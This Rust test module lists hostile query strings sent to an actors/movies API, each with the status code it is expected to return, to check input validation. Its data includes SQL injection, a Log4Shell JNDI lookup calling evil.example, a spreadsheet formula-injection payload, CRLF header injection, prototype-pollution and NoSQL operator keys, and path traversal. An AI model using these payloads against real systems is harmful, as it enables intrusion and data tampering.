//! Queries of lists and of single rows.

use super::HostileRequest;

pub(super) fn requests() -> Vec<HostileRequest> {
    let table: &[(&str, &[u8], u16)] = &[
        ("a limit of nothing", b"limit=", 422),
        ("a limit without a value", b"limit", 422),
        ("a limit of zero", b"limit=0", 422),
        ("a limit below zero", b"limit=-1", 422),
        ("a limit above the greatest", b"limit=1001", 422),
        ("a limit beyond 2^64", b"limit=18446744073709551617", 422),
        ("a limit with a fraction", b"limit=1.0", 422),
        ("a limit with an exponent", b"limit=1e1", 422),
        ("a limit with a space", b"limit=+1", 422),
        ("a limit with a null byte", b"limit=1%00", 422),
        ("a limit in Arabic digits", b"limit=%d9%a1", 422),
        ("a limit that is no UTF-8", b"limit=%ff", 422),
        ("a limit that is SQL", b"limit=1;DROP%20TABLE%20actors", 422),
        ("two limits", b"limit=1&limit=2", 422),
        ("the same limit twice", b"limit=1&limit=1", 422),
        (
            "a limit and an encoded name of it",
            b"limit=1&%6cimit=2",
            422,
        ),
        ("two limits in one", b"limit=1,2", 422),
        ("an after of zero", b"after=0", 422),
        (
            "an after beyond the greatest",
            b"after=9007199254740992",
            422,
        ),
        ("an after that is no id", b"after=01", 422),
        (
            "an after that is a key of DynamoDB",
            b"after=%7b%22id%22:%7b%22N%22:%221%22%7d%7d",
            422,
        ),
        ("an after at the greatest", b"after=9007199254740991", 200),
        ("a limit encoded is the limit", b"%6cimit=%31", 200),
        ("a limit in an array is another name", b"limit[]=0", 200),
        ("a limit in an object is another name", b"limit[$gt]=0", 200),
        ("a limit in another case is another name", b"LIMIT=0", 200),
        (
            "a prototype",
            b"__proto__[limit]=0&constructor.prototype.limit=0",
            200,
        ),
        (
            "names of expressions",
            b"FilterExpression=true&ExclusiveStartKey=x&#a=:b&IndexName=y",
            200,
        ),
        ("SQL", b"id=1'%20OR%20'1'='1&order=(select%20sleep(9))", 200),
        (
            "a token where none counts",
            b"access_token=x&authorization=Bearer%20x",
            200,
        ),
        ("nothing but separators", b"&&&==&;;&?&??", 200),
        ("bytes that are no UTF-8", b"%ff=%fe&%c3=%a9", 200),
        ("characters that no URL has", b"a={}|\\^`[]&b='", 200),
        ("escapes that are none", b"%=%zz&%u0031=%", 200),
        ("line ends", b"a=%0d%0aX-Injected:%20yes", 200),
        ("null bytes", b"%00=%00", 200),
    ];
    let requests = table.iter().map(|(description, query, status)| {
        HostileRequest::new(
            description,
            "GET",
            [&b"/actors?"[..], query].concat(),
            *status,
        )
    });
    let requests = requests.chain(found()).chain(cursors()).chain(of_one_row());
    let many: String = (0..1000).map(|number| format!("p{number}=&")).collect();
    let many_limits = "limit=1&".repeat(500);
    let long = format!("/movies?{}", "é".repeat(3000));
    requests
        .chain([
            HostileRequest::new(
                "a thousand parameters",
                "GET",
                format!("/actors?{many}"),
                200,
            ),
            HostileRequest::new(
                "five hundred limits",
                "GET",
                format!("/actors?{many_limits}"),
                422,
            ),
            HostileRequest::new(
                "six thousand bytes that the decoder's URL must have encoded",
                "GET",
                long,
                200,
            ),
        ])
        .collect()
}

/// The parameters that find rows, each with values that break its rule and with valid values that
/// look invalid.
fn found() -> Vec<HostileRequest> {
    let rejected: &[(&str, &str, &[&str])] = &[
        (
            "actors",
            "name",
            &["", "%20", "%cc%81", "+%e3%80%80+", "%1f", "a%00b"],
        ),
        ("actors", "gender", &["", "%00", "a%0ab", "%1b[31m", "%20"]),
        (
            "actors",
            "min_age",
            &[
                "", "-1", "151", "1.0", "01", "+1", "1e1", "0x1", "%d9%a1", "1%00", "NaN", "null",
                "{}", "1;--",
            ],
        ),
        (
            "actors",
            "max_age",
            &[
                "",
                "-0",
                "151",
                "18446744073709551617",
                "00",
                "%201",
                "%ef%bc%91",
                "1,2",
                "true",
                "%ff",
            ],
        ),
        (
            "actors",
            "movie_id",
            &[
                "",
                "0",
                "01",
                "-1",
                "9007199254740992",
                "18446744073709551617",
                "movie%231",
                "1%00",
                "*",
            ],
        ),
        (
            "actors",
            "sort",
            &[
                "",
                "-",
                "--id",
                "ID",
                "gender",
                "title",
                "id,name",
                "id%00",
                "+id",
                "%2bid",
                "name%20desc",
                "1",
            ],
        ),
        (
            "actors",
            "sort",
            &[
                "(select%20sleep(9))",
                "constructor",
                "__proto__",
                "by_name",
                "name_key",
                "-%69d%00",
            ],
        ),
        (
            "actors",
            "include",
            &[
                "",
                "cast",
                "Credits",
                "credits,cast",
                "credits%00",
                "*",
                "true",
                "../credits",
            ],
        ),
        ("movies", "title", &["", "%20", "%cc%81%cc%88", "%09"]),
        (
            "movies",
            "released_from",
            &[
                "",
                "now",
                "01/02/2020",
                "2020-02-30",
                "1799-12-31",
                "10000-01-01",
                "1589464933",
                "2020%00",
            ],
        ),
        (
            "movies",
            "released_to",
            &[
                "",
                "2020",
                "2020-5",
                "9999-12-31T23:59:59-00:01",
                "2020-05-14%00",
                "'%20OR%20'1'='1",
            ],
        ),
        (
            "movies",
            "actor_id",
            &[
                "",
                "0",
                "+1",
                "1.0",
                "9007199254740992",
                "actor%231",
                "{}",
                "%ff",
            ],
        ),
        (
            "movies",
            "sort",
            &[
                "name",
                "age",
                "-",
                "release-date",
                "release_date%20asc",
                "title,id",
                "by_title",
            ],
        ),
        (
            "movies",
            "include",
            &["", "credits", "CAST", "cast%20", "cast,cast", "true"],
        ),
    ];
    let rejected = rejected.iter().flat_map(|(resource, name, values)| {
        values
            .iter()
            .map(move |value| (*resource, format!("{name}={value}"), 422))
    });
    let long = "x".repeat(201);
    let twice = [
        ("actors", format!("name={long}"), 422),
        ("actors", format!("gender={}", "x".repeat(81)), 422),
        ("movies", format!("title={long}"), 422),
        (
            "movies",
            format!("title={}", "%f0%9d%95%8f".repeat(201)),
            422,
        ),
        ("actors", "name=a&name=a".to_owned(), 422),
        ("actors", "sort=id&sort=id".to_owned(), 422),
        ("actors", "min_age=1&%6din_age=1".to_owned(), 422),
        ("movies", "include=cast&include=cast".to_owned(), 422),
        ("movies", "actor_id=1&".repeat(500), 422),
        (
            "movies",
            "released_to=2020-05-14&released_to=2020-05-15".to_owned(),
            422,
        ),
        ("actors", "after=1&sort=-id".to_owned(), 422),
        ("actors", "after=1&sort=age".to_owned(), 422),
        ("movies", "after=1&sort=title".to_owned(), 422),
    ];
    let accepted = [
        ("actors", format!("name={}", "x".repeat(200))),
        // U+FDFA folds to eighteen characters.
        ("actors", format!("name={}", "%ef%b7%ba".repeat(200))),
        (
            "actors",
            format!("name={}&sort=-name", "%f0%9d%95%8f".repeat(200)),
        ),
        ("movies", format!("title={}", "%ef%b7%ba".repeat(200))),
        ("actors", "name==cmd|'%20/C%20calc'!A0".to_owned()),
        ("actors", "name=%2b1%2b1&gender=@SUM(1)".to_owned()),
        ("actors", "name='%20OR%20'1'='1&sort=name".to_owned()),
        ("actors", "name=%23name&gender=:gender".to_owned()),
        ("actors", "name=%f4%8f%bf%bf&sort=name".to_owned()),
        ("actors", "name=%ff%fe".to_owned()),
        ("actors", "gender=0%23female&sort=-age".to_owned()),
        ("actors", "min_age=150&max_age=0".to_owned()),
        (
            "actors",
            "min_age=150&max_age=0&sort=-age&include=credits".to_owned(),
        ),
        (
            "movies",
            "title=$%7bjndi:ldap://evil.example/a%7d".to_owned(),
        ),
        ("movies", "title=%3c/script%3e&sort=title".to_owned()),
        (
            "movies",
            "released_from=9999-12-31&released_to=1800-01-01&sort=-release_date".to_owned(),
        ),
        ("actors", "movie_id=9007199254740991".to_owned()),
        (
            "movies",
            "actor_id=9007199254740991&include=cast".to_owned(),
        ),
        // A parameter of the other resource is unknown.
        ("actors", "title=&actor_id=0&released_to=".to_owned()),
        ("movies", "name=&gender=&min_age=-1&movie_id=0".to_owned()),
        ("actors", "name[]=&sort[]=x&min_age[$gt]=0&NAME=".to_owned()),
    ];
    let requests = rejected
        .chain(twice)
        .chain(accepted.map(|(resource, query)| (resource, query, 200)));
    requests
        .map(|(resource, query, status)| {
            let description: String = query.chars().take(60).collect();
            HostileRequest::new(
                &format!("{resource}?{description}"),
                "GET",
                format!("/{resource}?{query}"),
                status,
            )
        })
        .collect()
}

/// Cursors that no list has returned.
fn cursors() -> Vec<HostileRequest> {
    let nonsense = [
        "",
        "x",
        "=",
        "AAAAAAAAAAAAAAAA",
        "%00",
        "%ff",
        "+",
        "../../actors",
        "{}",
        "null",
        "1",
        "AAAA&cursor=AAAA",
    ];
    let (long, longer) = ("A".repeat(1500), "A".repeat(9000));
    let nonsense = nonsense
        .into_iter()
        .chain([long.as_str(), longer.as_str()])
        .flat_map(|cursor| {
            ["/actors?", "/movies?sort=-title&", "/movies?actor_id=1&"]
                .map(|list| (format!("{list}cursor={cursor}"), 422))
        });
    // The digests of these are valid: they are made as the API makes them, for positions that no
    // row has. Each works in its own list only.
    let made = [
        ("/actors?sort=age&cursor=K1M7Q9ND7S8A", 200),
        // For no position at all.
        ("/actors?sort=-name&cursor=P94xzNGHx7k", 422),
        ("/actors?sort=-id&cursor=KkKkO7wyjxkw", 422),
        ("/actors?sort=-id&cursor=1GssTmVgNIIrNQ", 422),
        ("/actors?sort=-age&cursor=K1M7Q9ND7S8A", 422),
        ("/actors?cursor=K1M7Q9ND7S8A", 422),
        ("/movies?sort=age&cursor=K1M7Q9ND7S8A", 422),
        ("/actors?sort=age&cursor=K1M7Q9ND7S8A=", 422),
        ("/actors?sort=age&cursor=K1M7Q9ND7S8A&after=1", 422),
        ("/actors?sort=age&min_age=0&cursor=K1M7Q9ND7S8A", 422),
    ];
    nonsense
        .chain(made.map(|(target, status)| (target.to_owned(), status)))
        .map(|(target, status)| {
            let description: String = target.chars().take(60).collect();
            HostileRequest::new(&description, "GET", target, status)
        })
        .collect()
}

/// Queries that a single row does not accept, and parameters that it ignores.
fn of_one_row() -> Vec<HostileRequest> {
    let table = [
        ("/actors/1?include=cast", 422),
        ("/actors/1?include=", 422),
        ("/actors/1?include", 422),
        ("/actors/1?include=credits&include=credits", 422),
        ("/actors/1?include=credits%00", 422),
        ("/movies/1?include=credits", 422),
        ("/movies/1?include=__proto__", 422),
        ("/movies/1?include=cast,credits", 422),
        // The other parameters are a list's, and are ignored.
        ("/actors/1?limit=0&after=x&sort=x&cursor=x&name=", 200),
        ("/movies/1?include[]=all&INCLUDE=all", 200),
        ("/movies/1?%69nclude=%63ast", 200),
        ("/movies/1?movie_id=2&id=2", 200),
    ];
    table
        .map(|(target, status)| HostileRequest::new(target, "GET", target, status))
        .into()
}
